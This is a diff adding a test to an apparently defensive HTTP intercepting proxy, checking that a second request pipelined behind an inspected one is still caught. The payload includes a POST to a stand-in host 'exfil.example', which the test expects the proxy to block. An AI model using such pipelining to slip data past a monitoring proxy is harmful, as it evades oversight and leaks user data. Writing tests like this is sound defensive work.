@@ -477,6 +477,30 @@ def test_plain_http_is_inspected_too(intercepting: dict[str, Any]) -> None:
     connection.close()
 
 
+def test_a_plain_http_request_pipelined_behind_an_inspected_one_is_checked_too(
+    intercepting: dict[str, Any],
+) -> None:
+    _call(intercepting["tracker"], {"to": "alice@example.org"})
+    body = orjson.dumps({"To": "alice@example.org"})
+    payload = (
+        b"POST http://plain.test/email HTTP/1.1\r\nHost: plain.test\r\nContent-Type: application/json\r\n"
+        + b"Content-Length: %d\r\n\r\n" % len(body)
+        + body
+        + b"POST http://exfil.example/email HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 2\r\n\r\n{}"
+    )
+    with socket.create_connection(("127.0.0.1", intercepting["proxy"]), timeout=20) as raw:
+        raw.sendall(payload)  # both requests in one packet
+        answers = b""
+        for _ in range(100):  # bounded
+            if answers.count(b"HTTP/1.1 ") >= 2 or not (chunk := raw.recv(4096)):
+                break
+            answers += chunk
+    assert answers.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in answers
+    assert [r["path"] for r in intercepting["plain"]] == ["/email"]
+    _wait_for(intercepting["records"], lambda r: r.get("host") == "exfil.example")
+    assert [r["decision"] for r in intercepting["records"] if r.get("host") == "exfil.example"] == ["block"]
+
+
 # -- end to end: the postmark-mcp shape, sandboxed, through the gateway -------------------------
 
 
